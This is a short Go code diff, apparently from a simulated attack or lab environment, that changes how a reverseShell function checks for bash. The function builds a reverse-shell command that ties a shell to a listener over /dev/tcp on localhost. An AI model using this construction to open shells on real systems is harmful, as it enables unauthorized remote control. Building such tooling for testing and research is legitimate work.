@@ -207,7 +207,7 @@ func (s *arsenal) upload() string {
 // reverseShell connects a shell to the listener by whatever can: bash, or else the function's own interpreter.
 func (s *arsenal) reverseShell() string {
 	port := s.world.ShellPort
-	if _, ok := lookPath("bash"); ok {
+	if s.host.Bash {
 		return fmt.Sprintf("bash -c 'exec sh <>/dev/tcp/127.0.0.1/%d >&0'", port)
 	}
 	if s.host.Runtime == "python" {
